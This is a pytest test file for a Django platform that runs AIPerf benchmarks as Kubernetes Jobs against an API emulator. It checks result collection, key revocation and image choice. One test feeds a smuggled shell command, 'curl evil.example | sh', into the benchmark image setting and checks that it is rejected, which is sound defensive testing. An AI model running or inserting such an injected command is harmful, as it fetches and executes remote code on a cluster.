"""A benchmark on a Kubernetes cluster, against the API emulator: the worker applies the Secret,
the ConfigMap and the Job, waits for the Job, reads each point's export from the pod's log, and
deletes what held the key. The test plays the cluster's part (the emulator runs no controllers):
it starts the pod, writes its log and marks the Job finished.

Why the emulator (a stand-in, see tests/drivers/kube_emulator.py): the worker reads each point's
results from the pod's log, which kwok's nodes do not serve, so the test writes the log and plays
the Job controller finishing or failing the Job. The Job accepted and run to completion by the real
Job controller, from a mirrored AIPerf image, is
tests/kube_real/test_benchmark_job_on_real_cluster.py.
"""

from __future__ import annotations

import json
import threading
from typing import Any

import pytest
from django.db import connection

from deployments.clusters import services
from deployments.drivers.kube.benchmark_job import RESULT_MARKER, benchmark_names
from deployments.endpoints.models import Deployment
from deployments.experiments.benchmark import run as benchmark_run
from deployments.experiments.benchmark import services as benchmarks
from deployments.experiments.models import Benchmark, BenchmarkStatus
from tests.conftest import Cast
from tests.drivers.kube_emulator import RunningEmulator
from tests.experiments.benchmark.test_profile import EXPORT
from tests.experiments.canary.helpers import mark_serving
from tests.fixtures.endpoints import NS
from tests.waiting import wait_until

pytestmark = pytest.mark.django_db(transaction=True)


def _run_in_background(benchmark_id: str) -> threading.Thread:
    """The task's work on a thread of its own (it polls the Job), as a worker would run it."""

    def run() -> None:
        try:
            benchmark_run.run_benchmark(benchmark_id)
        finally:
            connection.close()  # the thread's own connection, or the test database stays busy

    thread = threading.Thread(target=run)
    thread.start()
    return thread


def _start_pod(emulator: RunningEmulator, job: dict[str, Any], lines: list[str]) -> None:
    labels = job["spec"]["template"]["metadata"]["labels"]
    pod_name = f"{job['metadata']['name']}-x7k2p"
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": pod_name, "namespace": NS, "labels": labels},
        "spec": job["spec"]["template"]["spec"],
        "status": {"phase": "Succeeded"},
    }
    emulator.put("v1", "Pod", NS, pod)
    emulator.write_log(NS, pod_name, "aiperf", lines)


def _queue(cast: Cast, deployment: Deployment) -> tuple[Benchmark, str]:
    serving = mark_serving(deployment)
    actor = cast.actor(cast.dave, cast.acme)
    benchmark = benchmarks.create_benchmark(
        actor, serving.pk, profile={"concurrency": [1, 2], "duration_s": 5}
    )
    return benchmark, benchmark_names(serving.slug, str(benchmark.pk))


def _applied_job(
    emulator: RunningEmulator,
    cast: Cast,
    endpoint: Deployment,
) -> dict[str, Any]:
    """Run a benchmark as far as its Job, end the Job as failed; the Job as it was applied."""
    benchmark, name = _queue(cast, endpoint)
    thread = _run_in_background(str(benchmark.pk))
    wait_until(lambda: emulator.get("batch/v1", "Job", NS, name) is not None, "the Job applied")
    job = emulator.get("batch/v1", "Job", NS, name)
    assert job is not None
    emulator.put("batch/v1", "Job", NS, {**job, "status": {"failed": 1}})
    thread.join(timeout=60)
    return job


def test_the_sweep_runs_as_a_job_and_its_log_carries_the_results(
    cast: Cast,
    emulator: RunningEmulator,
    kube_endpoint: Deployment,
) -> None:
    benchmark, name = _queue(cast, kube_endpoint)
    thread = _run_in_background(str(benchmark.pk))
    wait_until(lambda: emulator.get("batch/v1", "Job", NS, name) is not None, "the Job applied")
    secret = emulator.get("v1", "Secret", NS, name)
    assert secret is not None and emulator.get("v1", "ConfigMap", NS, f"{name}-tok") is not None
    job = emulator.get("batch/v1", "Job", NS, name)
    assert job is not None
    export = json.dumps(EXPORT)
    _start_pod(emulator, job, ["[aiperf] warming up", f"{RESULT_MARKER} 0 {export}",
                               f"{RESULT_MARKER} 1 {export}"])  # fmt: skip
    emulator.put("batch/v1", "Job", NS, {**job, "status": {"succeeded": 1}})
    thread.join(timeout=60)
    assert not thread.is_alive()
    benchmark.refresh_from_db()
    assert benchmark.status == BenchmarkStatus.SUCCEEDED, benchmark.error
    assert benchmark.runner == "kubernetes"
    assert [p["value"] for p in benchmark.results] == [1, 2]
    assert benchmark.results[0]["latency_ms"]["ttft"]["p90"] == 59.3
    # What held the key is gone, and the key itself is revoked.
    assert emulator.get("v1", "Secret", NS, name) is None
    assert emulator.get("v1", "ConfigMap", NS, f"{name}-tok") is None
    assert benchmark.api_key is not None and benchmark.api_key.revoked_at is not None


def test_a_failed_job_fails_the_benchmark_and_revokes_its_key(
    cast: Cast,
    emulator: RunningEmulator,
    kube_endpoint: Deployment,
) -> None:
    benchmark, name = _queue(cast, kube_endpoint)
    thread = _run_in_background(str(benchmark.pk))
    wait_until(lambda: emulator.get("batch/v1", "Job", NS, name) is not None, "the Job applied")
    job = emulator.get("batch/v1", "Job", NS, name)
    assert job is not None
    emulator.put("batch/v1", "Job", NS, {**job, "status": {"failed": 1}})
    thread.join(timeout=60)
    benchmark.refresh_from_db()
    assert benchmark.status == BenchmarkStatus.FAILED and "failed" in benchmark.error
    assert benchmark.api_key is not None and benchmark.api_key.revoked_at is not None
    assert benchmark.deployment.events.filter(reason="BenchmarkFailed").exists()
    assert emulator.get("v1", "Secret", NS, name) is None


def test_the_job_runs_aiperf_from_the_clusters_image_else_the_platforms(
    cast: Cast,
    emulator: RunningEmulator,
    kube_endpoint: Deployment,
    settings: Any,
) -> None:
    settings.PLINTH_BENCHMARK_IMAGE = "platform.example/plinth/aiperf:0.13.0"
    job = _applied_job(emulator, cast, kube_endpoint)
    (container,) = job["spec"]["template"]["spec"]["containers"]
    assert container["image"] == "platform.example/plinth/aiperf:0.13.0"
    assert "pip" not in container["args"][0]  # the image has AIPerf: nothing to fetch
    # An air-gapped cluster's operator names the mirror, and the secret its registry needs.
    air_gapped = {
        "benchmark_aiperf": {"type": "image", "image": "registry.internal/aiperf:0.13.0"},
        "image_pull_secrets": ["mirror-cred"],
    }
    services.update_cluster(
        cast.actor(cast.alice, cast.acme), kube_endpoint.cluster_id, settings=air_gapped
    )
    pod = _applied_job(emulator, cast, kube_endpoint)["spec"]["template"]["spec"]
    assert pod["containers"][0]["image"] == "registry.internal/aiperf:0.13.0"
    assert pod["imagePullSecrets"] == [{"name": "mirror-cred"}]


def test_a_malformed_platform_image_fails_the_benchmark_naming_the_variable(
    cast: Cast,
    emulator: RunningEmulator,
    kube_endpoint: Deployment,
    settings: Any,
) -> None:
    settings.PLINTH_BENCHMARK_IMAGE = "aiperf; curl evil.example | sh"
    benchmark, name = _queue(cast, kube_endpoint)
    thread = _run_in_background(str(benchmark.pk))

    def ended_or_applied() -> bool:
        benchmark.refresh_from_db()
        applied = emulator.get("batch/v1", "Job", NS, name) is not None
        return applied or benchmark.status in (BenchmarkStatus.FAILED, BenchmarkStatus.SUCCEEDED)

    wait_until(ended_or_applied, "the run ends or applies its Job")
    job = emulator.get("batch/v1", "Job", NS, name)
    if job is not None:  # so the run ends rather than waits out its deadline
        emulator.put("batch/v1", "Job", NS, {**job, "status": {"failed": 1}})
    thread.join(timeout=60)
    assert job is None  # nothing reached the cluster
    benchmark.refresh_from_db()
    assert benchmark.status == BenchmarkStatus.FAILED
    assert "PLINTH_BENCHMARK_IMAGE" in benchmark.error
    assert benchmark.api_key is not None and benchmark.api_key.revoked_at is not None
